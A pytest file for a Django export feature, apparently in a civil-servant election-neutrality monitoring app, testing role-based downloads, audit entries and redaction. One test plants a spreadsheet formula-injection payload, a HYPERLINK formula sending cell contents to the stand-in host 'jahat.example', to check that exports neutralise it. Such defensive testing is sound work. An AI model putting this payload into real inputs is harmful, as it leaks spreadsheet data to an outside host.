from __future__ import annotations

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from netra.audit.models import AuditEntry
from netra.exports.jobs import run_export_job
from netra.exports.models import ExportJob
from tests.factories import forbidden_finding


def finished(user, kind="findings", fmt="csv", filters=None) -> ExportJob:
    job = ExportJob.objects.create(
        kind=kind, format=fmt, requested_by=user, filters=filters or {"status": "semua"}
    )
    return run_export_job(job.pk)


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict]:
    text = body(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_url_name():
    assert reverse("export_download", args=[7]) == "/ekspor/7/unduh/"


def test_owner_downloads_csv_and_it_is_audited(client, world, export_root):
    forbidden_finding(world)
    forbidden_finding(world, asn=world.perawat)
    job = finished(world.satgas)
    client.force_login(world.satgas)
    response = client.get(reverse("export_download", args=[job.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    assert f'filename="{job.download_name}"' in response["Content-Disposition"]
    content = body(response)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert {r["NIP"] for r in rows} == {world.guru.nip, world.perawat.nip}
    entry = AuditEntry.objects.get(action="export.download")
    assert entry.actor == "satgas" and entry.object_id == str(job.pk)


def test_monitor_xlsx_holds_only_their_opd(client, world, export_root):
    forbidden_finding(world)
    forbidden_finding(world, asn=world.perawat)
    job = finished(world.monitor, fmt="xlsx")
    client.force_login(world.monitor)
    response = client.get(reverse("export_download", args=[job.pk]))
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(body(response))).active.iter_rows(values_only=True))
    header, data = rows[0], rows[1:]
    assert [r[header.index("NIP")] for r in data] == [world.guru.nip]
    assert [r[header.index("ASN")] for r in data] == ["Sri Wahyuni"]


def test_viewer_file_has_no_personal_details(client, world, export_root):
    forbidden_finding(world)
    job = finished(world.viewer, fmt="xlsx")
    client.force_login(world.viewer)
    content = body(client.get(reverse("export_download", args=[job.pk])))
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert "NIP" not in rows[0] and "ASN" not in rows[0] and "akun" not in rows[0]
    assert len(rows) == 2
    flat = repr(rows)
    assert world.guru.nip not in flat and "Sri Wahyuni" not in flat
    assert "SD Negeri 1 Sidomulyo" in flat


def test_case_export_for_the_monitor(client, world, export_root):
    from tests.exports.conftest import open_case

    open_case(world)
    open_case(world, asn=world.perawat)
    job = finished(world.monitor, kind="cases")
    client.force_login(world.monitor)
    rows = csv_rows(client.get(reverse("export_download", args=[job.pk])))
    assert [r["NIP"] for r in rows] == [world.guru.nip]


def test_attacker_text_arrives_neutralised(client, world, export_root):
    from tests.factories import ingest

    handle = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'
    ingest(
        {
            "id": "jahat-1",
            "action": "post",
            "platform": "x",
            "author": handle,
            "text": "Ayo dukung BARA nomor 2, Bagus-Ratna pasti menang!",
            "created_at": "2024-10-10T09:00:00+07:00",
        }
    )
    job = finished(world.satgas, fmt="xlsx")
    assert job.rows == 1
    client.force_login(world.satgas)
    content = body(client.get(reverse("export_download", args=[job.pk])))
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    assert "'" + handle in [c.value for c in cells]


def test_another_user_cannot_download(client, world, export_root):
    job = finished(world.monitor)
    for other in (world.other_monitor, world.satgas, world.viewer):
        client.force_login(other)
        assert client.get(reverse("export_download", args=[job.pk])).status_code == 404
    assert not AuditEntry.objects.filter(action="export.download").exists()


def test_admin_may_download(client, world, export_root):
    job = finished(world.monitor)
    client.force_login(world.admin)
    assert client.get(reverse("export_download", args=[job.pk])).status_code == 200


def test_unfinished_job_has_nothing_to_download(client, world, export_root):
    job = ExportJob.objects.create(kind="findings", format="csv", requested_by=world.satgas)
    client.force_login(world.satgas)
    assert client.get(reverse("export_download", args=[job.pk])).status_code == 404


def test_sign_in_required(client, world, export_root):
    job = finished(world.satgas)
    response = client.get(reverse("export_download", args=[job.pk]))
    assert response.status_code == 302
